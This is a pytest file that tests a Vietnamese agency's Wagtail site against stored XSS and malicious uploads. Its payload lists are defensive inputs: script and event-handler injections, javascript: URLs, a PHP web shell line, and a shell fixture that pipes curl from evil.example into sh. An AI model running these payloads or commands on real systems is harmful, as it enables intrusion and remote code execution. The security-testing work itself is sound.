"""Safe content: stored XSS never reaches a public page, and uploads are judged by their content.

Payloads go into every editable text field of the articles, categories, home page, standard
pages, portlets and agency settings, through the Wagtail admin forms (where Wagtail's own
editor conversion already drops much) and through the model API and the database directly
(where only our cleaning stands between the payload and the visitor). The public pages must
carry no executable payload while showing typed text, escaped."""

import io
import json
import re
import zipfile
from html import escape as html_escape
from html.parser import HTMLParser

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client, override_settings
from django.utils.html import escape
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, Site
from wagtail.rich_text import RichText
from wagtail.test.utils.form_data import (inline_formset, nested_form_data, rich_text,
                                          streamfield)

from core.csp import head_script
from core.models import SiteSettings
from core.sanitize import clean_rich_text, is_safe_url
from news.models import NewsArticlePage
from pages.models import StandardPage
from portlets.models import Portlet, PortletAssignment

from .conftest import jpeg_bytes, publish_child
from .ole_builder import build_ole

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<embed embedtype="image" id="1" format="left" onerror="alert(1)"/>',
    '<a linktype="page" id="1" onclick="alert(1)">x</a>',
]
# For rich text written past the editor: each must lose its active part.
RICH_PAYLOADS = PAYLOADS + [
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<b onmouseover="alert(1)">x</b>',
    '<object data="x.swf"></object><math><mi>x</mi></math>',
    '<embed embedtype="media" url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"/>',
]

# The messages of this work and the Vietnamese that locale/vi must give for them.
MESSAGES = {
    "The file “%(name)s” contains a program (“%(member)s”), which cannot be uploaded.":
        "Tệp “%(name)s” có chứa chương trình (“%(member)s”), không được phép tải lên.",
    "The file “%(name)s” contains a program, which cannot be uploaded.":
        "Tệp “%(name)s” có chứa chương trình, không được phép tải lên.",
    "The file “%(name)s” holds a password-protected file (“%(member)s”) that cannot be "
    "checked. Upload it without a password.":
        "Tệp “%(name)s” chứa tệp có mật khẩu (“%(member)s”) nên không thể kiểm tra. Hãy tải "
        "lên bản không đặt mật khẩu.",
    "The file “%(name)s” holds more than %(count)s files, which cannot be checked.":
        "Tệp “%(name)s” chứa hơn %(count)s tệp, không thể kiểm tra.",
    "The file “%(name)s” is not a valid %(format)s file: its content does not match its "
    "extension.":
        "Tệp “%(name)s” không phải là tệp %(format)s hợp lệ: nội dung của tệp không khớp với "
        "phần mở rộng.",
    "The file “%(name)s” is not a valid %(format)s image: its content does not match its "
    "extension.":
        "Tệp “%(name)s” không phải là ảnh %(format)s hợp lệ: nội dung của tệp không khớp với "
        "phần mở rộng.",
    "The file “%(name)s” is a program or a script, which cannot be uploaded.":
        "Tệp “%(name)s” là chương trình hoặc tập lệnh, không được phép tải lên.",
    "The file “%(name)s” is not UTF-8 text: it holds binary data or text in another encoding. "
    "Save it as UTF-8 and upload it again.":
        "Tệp “%(name)s” không phải là văn bản UTF-8: tệp chứa dữ liệu nhị phân hoặc văn bản "
        "theo bảng mã khác. Hãy lưu tệp theo bảng mã UTF-8 rồi tải lên lại.",
    "The file “%(name)s” holds a web page or a script (HTML, SVG, XML), not plain text.":
        "Tệp “%(name)s” chứa trang web hoặc mã lệnh (HTML, SVG, XML), không phải văn bản thuần.",
    "The file “%(name)s” contains macros, which cannot be uploaded. Save the document without "
    "macros and upload it again.":
        "Tệp “%(name)s” có chứa macro, không được phép tải lên. Hãy lưu tài liệu không kèm "
        "macro rồi tải lên lại.",
    "File extension “%(extension)s” is not allowed. Allowed extensions are: "
    "%(allowed_extensions)s.":
        "Không cho phép tệp có phần mở rộng “%(extension)s”. Các phần mở rộng được phép: "
        "%(allowed_extensions)s.",
}


def vi(msgid, **params):
    return MESSAGES[msgid] % params


# What a public page may hold ----------------------------------------------------------------

class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "srcset",
                  "xlink:href", "content"}
# the site's own inline script, as base.html writes it (core.csp.HEAD_SCRIPT: "js" on <html>,
# and the visitor's text size and contrast from localStorage, before the first paint)
BASE_SCRIPTS = {str(head_script())}


def _unsafe_scheme(value):
    squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:text", "data:image/svg"))


def assert_no_executable(html, where="", db_html=False):
    """No script but the site's own, no event handler, no unsafe address, no active element.
    `db_html`: rich text as stored, where Wagtail's <embed embedtype="image"> may stand."""
    lowered = html.lower()
    assert "<script>alert" not in lowered, where
    for script in re.findall(r"<script\b[^>]*>.*?</script>", html, re.S | re.I):
        data = re.fullmatch(r'<script type="application/ld\+json">(.*)</script>', script, re.S)
        if data:  # structured data (pages.metadata): JSON, nothing in it a browser parses
            assert "<" not in data.group(1) and ">" not in data.group(1), (where, script)
            json.loads(data.group(1))
            continue
        assert script in BASE_SCRIPTS or re.fullmatch(
            r'<script src="/static/[^"]+"( defer)?></script>', script), (where, script)
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        if db_html and tag == "embed":
            assert {name for name, _value in attrs} <= {"embedtype", "id", "format", "alt"}
            assert dict(attrs)["embedtype"] == "image", (where, attrs)
            continue
        assert tag not in {"style", "object", "embed", "frame", "frameset", "base", "math"}, \
            (where, tag, attrs)
        if tag == "iframe":
            assert dict(attrs)["src"].startswith("https://www.youtube-nocookie.com/embed/"), where
        if tag == "svg":
            assert dict(attrs).get("class") == "brand-emblem", (where, attrs)
        for name, value in attrs:
            assert not name.startswith("on"), (where, tag, name, value)
            if name in URL_ATTRIBUTES and value:
                assert not _unsafe_scheme(value), (where, tag, name, value)


def public(url, status=200):
    response = Client().get(url)
    assert response.status_code == status, (url, response.status_code)
    return response.content.decode()


# Fixtures --------------------------------------------------------------------------------------

@pytest.fixture
def document(db):
    document = get_document_model()(title="Kế hoạch năm 2026")
    document.file.save("ke-hoach.pdf", ContentFile(b"%PDF-1.4\n%%EOF\n"), save=False)
    document.save()
    return document


def listblock(items):
    data = {str(index): {"value": value, "deleted": "", "order": str(index), "id": ""}
            for index, value in enumerate(items)}
    data["count"] = str(len(items))
    return data


def table_value(payload):
    return json.dumps({
        "data": [[payload, "Ô thường"], ["Ô thường", payload]],
        "first_row_is_table_header": False, "first_col_is_header": False,
        "table_header_choice": "neither", "table_caption": payload,
        "cell": [], "mergeCells": [],
    })


def contentstate(text, link_url):
    """What the Draftail editor posts: one paragraph whose first word links to `link_url`."""
    return json.dumps({
        "blocks": [{"key": "k1", "type": "unstyled", "text": text, "depth": 0,
                    "inlineStyleRanges": [{"offset": 0, "length": 4, "style": "BOLD"}],
                    "entityRanges": [{"offset": 0, "length": 4, "key": 0}], "data": {}}],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE",
                            "data": {"url": link_url}}},
    })


def article_form(payload, image, document):
    return nested_form_data({
        "title": f"Bài {payload}",
        "slug": payload,
        "seo_title": payload,
        "search_description": payload,
        "sapo": payload,
        "published_at": "2026-11-20 08:30",
        "featured_image": "",
        "body": streamfield([
            # the payload typed as text, and a request forged with a javascript: link
            ("paragraph", contentstate(f"Đoạn {payload} cuối", "javascript:alert(1)")),
            ("paragraph", rich_text(f"<p>{html_escape(payload)}</p>")),
            ("photo", {"image": image.pk, "caption": payload, "alt_text": payload,
                       "credit": payload, "original_src": payload}),
            ("quote", {"text": payload, "attribution": payload}),
            ("video", {"file": "", "url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
                       "title": payload, "poster": ""}),
            ("table", table_value(payload)),
            ("document", {"document": document.pk, "title": payload}),
        ]),
        "author_name": payload,
        "author": "",
        "source": payload,
        "tags": f"Tin {payload}",
        "related_links": inline_formset([]),
        "comments": inline_formset([]),
        "portlet_assignments": inline_formset([]),
        "portlet_blocks": inline_formset([]),
    })


def stored_json(table, column, pk_column, pk):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {column} FROM {table} WHERE {pk_column} = %s", [pk])
        return cursor.fetchone()[0]


def write_json(table, column, pk_column, pk, value):
    """Writes straight into the database, past every block and form."""
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {table} SET {column} = %s WHERE {pk_column} = %s",
                       [json.dumps(value), pk])


# The cleaner -----------------------------------------------------------------------------------

def test_what_the_editor_writes_is_kept_unchanged(db):
    # Wagtail's database format, as the Draftail converter writes it
    stored = ('<h2 data-block-key="a1">Tiêu đề</h2><p data-block-key="b2">Chữ "ngoặc" &amp; '
              "'nháy' &lt;Tên cơ quan&gt; <b>đậm</b> <i>nghiêng</i> m<sup>2</sup> H<sub>2</sub>O"
              '<br/>dòng <a href="https://example.vn/?a=1&amp;b=2">ngoài</a> '
              '<a linktype="page" id="3">trang</a> <a linktype="document" id="5">tài liệu</a> '
              '<a href="mailto:so@example.vn">thư</a> <a href="tel:+842933">gọi</a> '
              '<a href="/gioi-thieu/">trong</a> <a href="#muc-1">mục</a>\u00a0hết</p><hr/>'
              '<ul><li data-block-key="c3">một</li></ul><ol><li data-block-key="d4">hai</li></ol>'
              '<h3 data-block-key="e5">Nhỏ</h3><h4 data-block-key="f6">Nhỏ hơn</h4>'
              '<embed embedtype="image" format="left" id="1" alt="Ảnh &quot;đẹp&quot;"/>')
    assert clean_rich_text(stored) == stored
    assert clean_rich_text("<p><strong>a</strong><em>b</em></p>") == (
        "<p><strong>a</strong><em>b</em></p>")
    assert clean_rich_text(None) == clean_rich_text("") == ""


@pytest.mark.parametrize("payload", RICH_PAYLOADS)
def test_the_cleaner_removes_every_active_part(db, payload):
    cleaned = clean_rich_text(f"<p>Trước {payload} sau</p>")
    assert_no_executable(cleaned, payload, db_html=True)
    lowered = cleaned.lower()
    for bad in ["<script", "<img", "<svg", "<iframe", "<style", "<object", "onerror", "onclick",
                "onload", "onmouseover", "javascript", "vbscript", "data:", 'embedtype="media"']:
        assert bad not in lowered, (payload, cleaned)
    assert cleaned.startswith("<p>Trước ") and cleaned.endswith(" sau</p>")
    assert clean_rich_text(cleaned) == cleaned  # cleaning twice changes nothing


def test_wagtail_placeholders_that_would_break_a_page_are_dropped(db):
    assert clean_rich_text('<embed embedtype="image" id="x" format="left"/>') == ""
    assert clean_rich_text('<embed embedtype="image" id="1" format="huge"/>') == ""
    assert clean_rich_text('<embed embedtype="image" id="1"/>') == ""
    assert clean_rich_text('<a linktype="page">x</a>') == "<a>x</a>"
    assert clean_rich_text('<a linktype="page" id="1 or 1=1">x</a>') == "<a>x</a>"
    assert clean_rich_text('<a id="menu" href="https://e.vn/">x</a>') == (
        '<a href="https://e.vn/">x</a>')


@pytest.mark.parametrize("url, safe", [
    ("https://hau-giang.gov.vn/", True), ("http://e.vn", True), ("/tin-tuc/", True),
    ("#muc", True), ("mailto:a@e.vn", True), ("tel:02933", True), ("", True),
    ("javascript:alert(1)", False), (" JaVaScRiPt:alert(1)", False),
    ("java\tscript:alert(1)", False), ("\x01javascript:alert(1)", False),
    ("data:text/html,x", False), ("vbscript:x", False), ("ftp://e.vn", False),
])
def test_addresses(url, safe):
    assert is_safe_url(url) is safe


# Through the admin -----------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_every_field_of_an_article_reach_no_page(admin_client, category, image,
                                                              document, payload):
    response = admin_client.post(f"/admin/pages/add/news/newsarticlepage/{category.pk}/",
                                 {**article_form(payload, image, document),
                                  "action-publish": "publish"})
    assert response.status_code == 302, response.content.decode()[:3000]
    article = NewsArticlePage.objects.get()
    assert article.live and article.title == f"Bài {payload}"

    # rich text as stored: clean, and the text typed as text still there, escaped
    stored = json.loads(stored_json("news_newsarticlepage", "body", "page_ptr_id", article.pk))
    paragraphs = [block["value"] for block in stored if block["type"] == "paragraph"]
    for source in paragraphs:
        assert clean_rich_text(source) == source
        assert_no_executable(source, db_html=True)
    typed = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert typed in paragraphs[1]

    html = public(article.url)
    assert_no_executable(html, "article")
    assert f"<h1>Bài {escape(payload)}</h1>" in html  # the title, shown as typed
    for shown in [f'<p class="sapo">{escape(payload)}</p>',
                  f'<p class="byline">{escape(payload)}</p>',
                  f"<figcaption>{escape(payload)} <span",  # caption, then the credit
                  f"<blockquote><p>{escape(payload)}</p><footer>— {escape(payload)}</footer>",
                  f"<caption>{escape(payload)}</caption>"]:
        assert shown in html, shown
    assert html.count(escape(payload)) >= 12  # title, seo title, cells, caption, quote…
    tag_pages = [f"/the/{tag.slug}/" for tag in article.tags.all()]
    assert tag_pages
    for url in [category.url, "/", "/sitemap.xml", *tag_pages]:
        assert_no_executable(public(url), url)
    assert escape(f"Bài {payload}") in public(category.url)
    response = Client().get("/tim-kiem/", {"q": payload})
    assert response.status_code in (200, 400)
    assert_no_executable(response.content.decode(), "search")
    response = Client().get("/tim-kiem/", {"q": "Bài"})
    assert_no_executable(response.content.decode(), "search results")
    assert "Bài" in response.content.decode()


def test_an_unsafe_address_typed_in_a_block_is_refused(admin_client, category, image, document):
    data = article_form("Bình thường", image, document)
    data["body-4-value-url"] = "javascript:alert(1)//www.youtube.com/watch?v=dQw4w9WgXcQ"
    response = admin_client.post(f"/admin/pages/add/news/newsarticlepage/{category.pk}/",
                                 {**data, "action-publish": "publish"})
    assert response.status_code == 200
    assert not NewsArticlePage.objects.exists()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_category_home_and_standard_pages(admin_client, home, category, payload):
    for page in (home, category):
        data = nested_form_data({
            "title": f"{page.title} {payload}", "slug": page.slug, "seo_title": payload,
            "search_description": "", "intro": payload,
            "comments": inline_formset([]), "portlet_assignments": inline_formset([]),
            "portlet_blocks": inline_formset([]),
        })
        response = admin_client.post(f"/admin/pages/{page.pk}/edit/",
                                     {**data, "action-publish": "publish"})
        assert response.status_code == 302, response.content.decode()[:3000]
    data = nested_form_data({
        "title": f"Giới thiệu {payload}", "slug": "", "seo_title": payload,
        "search_description": payload, "intro": payload,
        "body": streamfield([("paragraph", contentstate(f"Sở {payload} ở Vị Thanh",
                                                         " javascript:alert(1)")),
                             ("quote", {"text": payload, "attribution": payload}),
                             ("table", table_value(payload))]),
        "comments": inline_formset([]), "portlet_assignments": inline_formset([]),
        "portlet_blocks": inline_formset([]),
    })
    response = admin_client.post(f"/admin/pages/add/pages/standardpage/{home.pk}/",
                                 {**data, "action-publish": "publish"})
    assert response.status_code == 302, response.content.decode()[:3000]
    standard = StandardPage.objects.get()
    category.refresh_from_db()
    for url, shown in [("/", f'content="{escape(payload)}"'),
                       (category.url, f"<p>{escape(payload)}</p>"),
                       (standard.url, f'<p class="sapo">{escape(payload)}</p>')]:
        html = public(url)
        assert_no_executable(html, url)
        assert shown in html, url
    stored = stored_json("pages_standardpage", "body", "page_ptr_id", standard.pk)
    assert_no_executable(json.loads(stored)[0]["value"], db_html=True)


def test_payloads_in_the_agency_settings(admin_client, home):
    payload = '"><svg onload=alert(1)><script>alert(1)</script>'
    site = Site.objects.get(is_default_site=True)
    url = f"/admin/settings/core/sitesettings/{site.pk}/"
    assert admin_client.get(url).status_code == 200
    response = admin_client.post(url, {
        "agency_name": payload, "governing_body": payload, "tagline": payload, "logo": "",
        "address": payload, "phone": payload, "fax": payload, "email": "so@example.vn",
        "responsible_person": payload, "licence": payload,
    })
    assert response.status_code == 302, response.content.decode()[:3000]
    assert SiteSettings.objects.get().agency_name == payload
    for url in ["/", "/tim-kiem/?q=a"]:
        html = public(url)
        assert_no_executable(html, url)
        assert f'<span class="brand-name">{escape(payload)}</span>' in html
        assert f"<p>{escape(payload)}</p>" in html  # the licence in the footer


def portlet_contents(payload, image, document):
    return {
        "rich_text": {"text": contentstate(f"Hộp {payload} chữ", "JaVaScRiPt:alert(1)")},
        "notice": {"text": contentstate(f"Thông báo {payload}", "data:text/html,x"),
                   "document": document.pk},
        "link_list": {"links": listblock([{"title": payload, "url": "https://e.vn/"}]),
                      "as_dropdown": "on"},
        "search_box": {"placeholder": payload},
        "banner": {"image": image.pk, "alt_text": payload, "link_page": "",
                   "link_url": "https://e.vn/"},
        "video": {"file": "", "url": "https://youtu.be/dQw4w9WgXcQ", "title": payload,
                  "poster": ""},
        "latest_news": {"categories": listblock([]), "count": "5"},
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_every_portlet_type(admin_client, home, image, document, payload):
    add_url = "/admin/snippets/portlets/portlet/add/"
    for type_name, value in portlet_contents(payload, image, document).items():
        data = nested_form_data({
            "title": f"{type_name} {payload}", "show_title": "on",
            "content": streamfield([(type_name, value)]),
            "visibility": "everyone", "denied_display": "message",
        })
        response = admin_client.post(add_url, data)
        assert response.status_code == 302, (type_name, response.content.decode()[:3000])
    portlets = list(Portlet.objects.all())
    assert len(portlets) == 7
    for portlet in portlets:
        PortletAssignment.objects.create(page=home, portlet=portlet, region="right")
    html = public("/")
    assert_no_executable(html, "home")
    for portlet in portlets:
        assert f'<h2 class="portlet-title" id="portlet-{portlet.pk}-title">' \
               f"{escape(portlet.title)}</h2>" in html
        single = public(f"/portlet/{portlet.pk}/")
        assert_no_executable(single, portlet.type_name)
    assert f'placeholder="{escape(payload)}"' in html
    assert f'alt="{escape(payload)}"' in html


# Past the admin: the model API and the database itself -----------------------------------------

def test_rich_text_saved_through_the_api_is_stored_clean(make_article, home):
    payload = "".join(RICH_PAYLOADS)
    # raw data, as the importer writes it: Wagtail stores it without the block's get_prep_value
    article = make_article(body=[
        {"type": "paragraph", "value": f"<p>Đầu {payload} <b>đậm</b></p>"}])
    other = make_article(body=[("paragraph", RichText(f"<p>Cuối {payload}</p>"))])
    for page in (article, other):
        stored = json.loads(stored_json("news_newsarticlepage", "body", "page_ptr_id", page.pk))
        source = stored[0]["value"]
        assert clean_rich_text(source) == source
        assert_no_executable(source, db_html=True)
        for bad in ["<script", "onerror", "onclick", "javascript", "<iframe", "<style"]:
            assert bad not in source.lower()
        revision = page.latest_revision.content["body"]
        revision = json.loads(revision) if isinstance(revision, str) else revision
        assert revision[0]["value"] == source
    assert "<b>đậm</b>" in json.loads(stored_json("news_newsarticlepage", "body", "page_ptr_id",
                                                  article.pk))[0]["value"]

    portlet = Portlet.objects.create(title="Hộp", content=[
        ("rich_text", {"text": RichText(f"<p>Hộp {payload}</p>")})])
    raw = Portlet.objects.create(title="Hộp thô", content=[
        {"type": "rich_text", "value": {"text": f"<p>Thô {payload}</p>"}},
    ])
    link = Portlet.objects.create(title="Liên kết", content=[
        {"type": "link_list", "value": {"as_dropdown": False, "links": [
            {"title": "x", "url": "javascript:alert(1)"}]}}])
    for box in (portlet, raw):
        stored = json.loads(stored_json("portlets_portlet", "content", "id", box.pk))
        assert_no_executable(stored[0]["value"]["text"], db_html=True)
        assert "<script" not in stored[0]["value"]["text"]
        assert "onerror" not in stored[0]["value"]["text"]
    stored = json.loads(stored_json("portlets_portlet", "content", "id", link.pk))
    assert "javascript" not in json.dumps(stored)


def test_html_written_into_the_database_is_cleaned_when_shown(make_article, home, category,
                                                              image):
    payload = "".join(RICH_PAYLOADS)
    article = make_article(title="Bài bị sửa thẳng trong cơ sở dữ liệu")
    write_json("news_newsarticlepage", "body", "page_ptr_id", article.pk, [
        {"type": "paragraph", "id": "a", "value": f"<p>Giữ <b>chữ đậm</b> {payload}</p>"},
        {"type": "video", "id": "b", "value": {"file": None, "url": "javascript:alert(1)",
                                               "title": "Phim", "poster": None}},
        {"type": "table", "id": "c", "value": {"data": [[payload]], "table_caption": payload,
                                               "first_row_is_table_header": False}},
    ])
    standard = publish_child(home, StandardPage(title="Trang bị sửa", intro=""))
    write_json("pages_standardpage", "body", "page_ptr_id", standard.pk, [
        {"type": "paragraph", "id": "a", "value": f"<p>Trang {payload}</p>"}])
    portlets = [
        Portlet.objects.create(title="Chữ", content=[
            {"type": "rich_text", "value": {"text": "<p>Chữ</p>"}}]),
        Portlet.objects.create(title="Thông báo", content=[
            {"type": "notice", "value": {"text": "<p>Chữ</p>", "document": None}}]),
        Portlet.objects.create(title="Liên kết", content=[
            {"type": "link_list", "value": {"links": [], "as_dropdown": False}}]),
        Portlet.objects.create(title="Banner", content=[
            {"type": "banner", "value": {"image": None, "alt_text": "", "link_page": None,
                                         "link_url": ""}}]),
    ]
    write_json("portlets_portlet", "content", "id", portlets[0].pk, [
        {"type": "rich_text", "id": "a", "value": {"text": f"<p>Hộp {payload}</p>"}}])
    write_json("portlets_portlet", "content", "id", portlets[1].pk, [
        {"type": "notice", "id": "a", "value": {"text": f"<p>Báo {payload}</p>",
                                                "document": None}}])
    write_json("portlets_portlet", "content", "id", portlets[2].pk, [
        {"type": "link_list", "id": "a", "value": {"as_dropdown": False, "links": [
            {"type": "item", "id": "l1", "value": {"title": "Xấu",
                                                   "url": " JaVaScRiPt:alert(1)"}},
            {"type": "item", "id": "l2", "value": {"title": "Tốt", "url": "https://e.vn/"}}]}}])
    write_json("portlets_portlet", "content", "id", portlets[3].pk, [
        {"type": "banner", "id": "a", "value": {"image": image.pk, "alt_text": payload,
                                                "link_page": None,
                                                "link_url": "javascript:alert(1)"}}])
    for portlet in portlets:
        PortletAssignment.objects.create(page=home, portlet=portlet, region="left")

    html = public(article.url)
    assert_no_executable(html, "article")
    assert "<b>chữ đậm</b>" in html  # harmless markup kept
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the table cell, as text
    html = public(standard.url)
    assert_no_executable(html, "standard page")
    assert "<p>Trang " in html
    html = public("/")
    assert_no_executable(html, "home")
    assert '<a href="https://e.vn/">Tốt</a>' in html and "Xấu" in html
    for portlet in portlets:
        assert_no_executable(public(f"/portlet/{portlet.pk}/"), portlet.title)


# Uploads -----------------------------------------------------------------------------------------

EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 45
       + b"PE\x00\x00This program cannot be run in DOS mode.")
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(1)</script></svg>")
PHP = b"<?php system($_GET['c']); ?>\n"
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]"
       b"/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def office_zip(folder, extra=()):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(f"{folder}document.xml", "<document/>")
        for name in extra:
            archive.writestr(name, b"\x00")
    return buffer.getvalue()


def odf_zip(mimetype):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


DOCX = office_zip("word/")


def plain_zip(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def flagged_encrypted_zip():
    """A zip whose member says it is encrypted (bit 0 of its flags, in the local and the
    central header): nothing in it can be read without the password."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("bang-luong.xlsx", b"...")
    data = bytearray(buffer.getvalue())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + flags_at] |= 0x1
    return bytes(data)


def crowded_zip(count):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(count):
            archive.writestr(f"t/{n}.txt", b"")
    return buffer.getvalue()


ENCRYPTED = ("The file “%(name)s” holds a password-protected file (“%(member)s”) that cannot be "
             "checked. Upload it without a password.")
TOO_MANY = "The file “%(name)s” holds more than %(count)s files, which cannot be checked."
PROGRAM_INSIDE = "The file “%(name)s” contains a program (“%(member)s”), which cannot be uploaded."
PROGRAM_EMBEDDED = "The file “%(name)s” contains a program, which cannot be uploaded."
PROGRAM = "The file “%(name)s” is a program or a script, which cannot be uploaded."
MISMATCH = ("The file “%(name)s” is not a valid %(format)s file: its content does not match its "
            "extension.")
IMAGE_MISMATCH = ("The file “%(name)s” is not a valid %(format)s image: its content does not "
                  "match its extension.")
NOT_UTF8 = ("The file “%(name)s” is not UTF-8 text: it holds binary data or text in another "
            "encoding. Save it as UTF-8 and upload it again.")
MARKUP = "The file “%(name)s” holds a web page or a script (HTML, SVG, XML), not plain text."
EXTENSION = ("File extension “%(extension)s” is not allowed. Allowed extensions are: "
             "%(allowed_extensions)s.")
MACROS = ("The file “%(name)s” contains macros, which cannot be uploaded. Save the document "
          "without macros and upload it again.")


def by_name(value):
    """Test ids: the file's name, not its content or the message."""
    return value if isinstance(value, str) and re.fullmatch(r"[\w.-]+", value) else "_"


def root_collection():
    return Collection.get_first_root_node().pk


def upload_document(client, name, content, multiple=False):
    upload = SimpleUploadedFile(name, content)
    if multiple:
        return client.post("/admin/documents/multiple/add/",
                           {"files[]": upload, "title": name, "collection": root_collection()})
    return client.post("/admin/documents/add/", {"title": name, "file": upload,
                                                 "collection": root_collection(), "tags": ""})


def assert_one_document_uploaded(response, multiple):
    """The admin's answer to an accepted upload (single or multiple), and the one document."""
    if multiple:
        assert response.status_code == 200 and response.json()["success"] is True, \
            response.content[:500]
    else:
        assert response.status_code == 302, response.content.decode()[:3000]
    assert get_document_model().objects.count() == 1


def upload_image(client, name, content, multiple=False):
    upload = SimpleUploadedFile(name, content)
    if multiple:
        return client.post("/admin/images/multiple/add/",
                           {"files[]": upload, "title": name, "collection": root_collection()})
    return client.post("/admin/images/add/", {"title": name, "file": upload,
                                              "collection": root_collection(), "tags": ""})


def refused_with(response, message, multiple):
    """The form comes back (200) with the message, or the multiple uploader gets it as JSON."""
    assert response.status_code == 200, response.status_code
    if multiple:
        text = response.json()["error_message"]
        assert response.json()["success"] is False
    else:
        text = response.content.decode()
        message = escape(message)
    assert message in text, message
    assert "“”" not in text  # no second message about an empty extension


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
@pytest.mark.parametrize("name, content, message", [
    ("chuong-trinh.jpg.pdf", EXE, vi(PROGRAM, name="chuong-trinh.jpg.pdf")),
    ("bao-cao.docx", EXE, vi(PROGRAM, name="bao-cao.docx")),
    ("cai-dat.zip", SHELL, vi(PROGRAM, name="cai-dat.zip")),
    ("trang.pdf", HTML, vi(MISMATCH, name="trang.pdf", format="PDF")),
    ("ghi-chu.txt", HTML, vi(MARKUP, name="ghi-chu.txt")),
    ("bang.csv", SVG, vi(MARKUP, name="bang.csv")),
    ("cu.txt", b"V\xe3n ba\xd2n cu\xde", vi(NOT_UTF8, name="cu.txt")),  # cp1258
    ("nhi-phan.txt", b"abc\x00def", vi(NOT_UTF8, name="nhi-phan.txt")),
    ("bang-tinh.xlsx", DOCX, vi(MISMATCH, name="bang-tinh.xlsx", format="Excel (XLSX)")),
    ("van-ban.docx", b"PK\x03\x04 not really a zip", vi(MISMATCH, name="van-ban.docx",
                                                          format="Word (DOCX)")),
    ("macro.docx", office_zip("word/", ["word/vbaProject.bin"]), vi(MACROS, name="macro.docx")),
    ("cu.doc", PDF, vi(MISMATCH, name="cu.doc", format="Word (DOC)")),
    ("hoa-don.zip", plain_zip({"hoa-don.pdf.exe": EXE}),
     vi(PROGRAM_INSIDE, name="hoa-don.zip", member="hoa-don.pdf.exe")),
    ("doc-ky.zip", plain_zip({"doc-ky.txt": EXE}),
     vi(PROGRAM_INSIDE, name="doc-ky.zip", member="doc-ky.txt")),
    ("bao-cao.docx", office_zip("word/", ["word/setup.exe"]),
     vi(PROGRAM_INSIDE, name="bao-cao.docx", member="word/setup.exe")),
    ("cong-van.doc", OLE2 + b"\x00" * 500 + EXE, vi(PROGRAM_EMBEDDED, name="cong-van.doc")),
    ("ke-hoach.pdf", PDF + EXE, vi(PROGRAM_EMBEDDED, name="ke-hoach.pdf")),
    ("nhung.docx", plain_zip({
        "[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>",
        "word/embeddings/oleObject1.bin": OLE2 + b"\x00" * 600 + EXE}),
     vi(PROGRAM_INSIDE, name="nhung.docx", member="word/embeddings/oleObject1.bin")),
    ("long-nhau.zip", plain_zip({"ho-so.zip": plain_zip({"evil.exe": b"x"})}),
     vi(PROGRAM_INSIDE, name="long-nhau.zip", member="evil.exe")),
    ("mat-khau.zip", flagged_encrypted_zip(),
     vi(ENCRYPTED, name="mat-khau.zip", member="bang-luong.xlsx")),
    ("qua-nhieu.zip", crowded_zip(10_001), vi(TOO_MANY, name="qua-nhieu.zip", count="10.000")),
    ("bang.ods", odf_zip("application/vnd.oasis.opendocument.text"),
     vi(MISMATCH, name="bang.ods", format="OpenDocument (ODS)")),
    ("phim.mp4", HTML, vi(MISMATCH, name="phim.mp4", format="MP4")),
    ("mau.rtf", PDF, vi(MISMATCH, name="mau.rtf", format="RTF")),
